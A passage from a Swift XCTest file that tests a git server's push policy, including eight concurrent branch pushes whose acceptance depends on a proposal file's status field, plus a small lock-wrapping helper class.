        assertAccepted(try setup.push("main", as: "mira"))
        XCTAssertEqual(try setup.serverRef("main"), new)
    }

    func testEightConcurrentPushes() throws {
        let setup = try makeSetup()
        var expected: [String: Bool] = [:]
        for index in 0..<8 {
            try setup.client.git("checkout", "--quiet", "-b", "release-\(index)", "main")
            try setup.client.commit("Edit \(index)", files: [Self.vepPath: Self.vep(status: index % 2 == 0 ? "provisional" : "implemented", extra: "\n\(index)\n")])
            expected["release-\(index)"] = index % 2 == 0
        }
        let results = UnsafeSendableBox([Int32](repeating: -1, count: 8))
        let shared = UnsafeSendableBox(setup)
        DispatchQueue.concurrentPerform(iterations: 8) { index in
            let status = (try? shared.value.push("release-\(index)", as: "mira").status) ?? -2
            results.lock.lock(); results.value[index] = status; results.lock.unlock()
        }
        for index in 0..<8 {
            let accepted = expected["release-\(index)"]!
            XCTAssertEqual(results.value[index] == 0, accepted, "release-\(index)")
            XCTAssertEqual(try setup.serverRef("refs/heads/release-\(index)"), accepted ? try setup.client.revParse("release-\(index)") : nil)
        }
    }
}

final class UnsafeSendableBox<Value>: @unchecked Sendable {
    var value: Value
    let lock = NSLock()
    init(_ value: Value) { self.value = value }
}
